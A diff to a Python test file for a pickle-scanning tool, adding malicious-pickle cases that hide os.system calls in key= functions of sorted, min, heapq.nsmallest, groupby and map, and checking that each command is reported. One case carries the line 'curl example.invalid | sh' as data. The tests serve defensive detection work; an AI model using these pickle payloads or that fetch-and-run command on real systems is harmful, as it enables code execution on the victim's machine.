@@ -3,9 +3,13 @@
 Each case is a real pickle written by Python's pickler (a __reduce__ naming the callable; the
 callable is never called) that earlier versions explained wrongly: a connection called
 "starts a process", an overwrite called "loads another payload", keystroke injection called
-"opens the file", and a harmless call headlined while the dangerous one hid in "+N". The one
-line a reviewer reads first must name the right action and argument."""
+"opens the file", a harmless call headlined while the dangerous one hid in "+N", a key= function
+called "not called on load" (sorted(items, key=os.system) calls it on every item), and a decoy
+first item of map(os.system, items) hiding the commands after it. The one line a reviewer reads
+first must name the right action and argument, and every command must be in the findings."""
 
+import functools
+import itertools
 import os
 import pickle
 import sys
@@ -44,6 +48,22 @@ CASES = {
     "command-shown-not-module": (
         [Call(real("os.system"), "id")],
         "runs a shell command `id` on load", ["`os`"]),
+    # key= functions: the partial carries the keyword, the Call invokes it during the load.
+    "sorted-key-called": (
+        [Call(functools.partial(sorted, key=real("os.system")), ["id"])],
+        "runs a shell command `id` on load", ["not called"]),
+    "min-key-positional-items": (
+        [Call(functools.partial(min, key=real("os.system")), "id", "uname")],
+        "runs a shell command `id` on load", ["not called"]),
+    "nsmallest-key-called": (
+        [Call(functools.partial(real("heapq.nsmallest"), key=real("os.system")), 1, ["id"])],
+        "runs a shell command `id` on load", ["not called"]),
+    "groupby-key-after-items": (
+        [Call(list, Call(itertools.groupby, ["id"], real("os.system")))],
+        "runs a shell command `id` on load", ["not called"]),
+    "map-decoy-first-item": (
+        [Call(list, Call(map, real("os.system"), ["true", "curl example.invalid | sh"]))],
+        "runs a shell command `", []),
 }
 
 
@@ -66,6 +86,26 @@ class Explain(unittest.TestCase):
                 self.assertTrue(e["summary"].startswith(want), e["summary"])
                 for bad in never:
                     self.assertNotIn(bad, e["summary"].split(" (+")[0])
+
+    def test_every_item_applied_is_evidence(self):
+        # Each item is a payload of its own: the second command is a finding too, not folded
+        # into the first because both ran at one opcode.
+        for name, commands in (("map-decoy-first-item", ["'true'", "'curl example.invalid | sh'"]),
+                               ("min-key-positional-items", ["'id'", "'uname'"])):
+            with self.subTest(name):
+                e = self.got[os.path.realpath(self.paths[name])]
+                evidence = [f["evidence"] for f in e["findings"] if f["severity"] == "critical"]
+                for c in commands:
+                    self.assertTrue(any(c in ev for ev in evidence), (c, evidence))
+
+    def test_plain_sorted_is_not_a_finding(self):
+        # Without key= these builtins call nothing: no review for sorting a list.
+        with tempfile.TemporaryDirectory() as tmp:
+            named = {"plain": pickle.dumps([Call(sorted, ["b", "a"]), Call(max, 3, 4)],
+                                           protocol=2)}
+            paths, got = mvtest.scan_named_pickles(tmp, named)
+            e = got[os.path.realpath(paths["plain"])]
+            self.assertEqual(e["verdict"], "safe", e)
 
     def test_others_are_counted_after_the_headline(self):
         e = self.got[os.path.realpath(self.paths["dangerous-call-headlined"])]
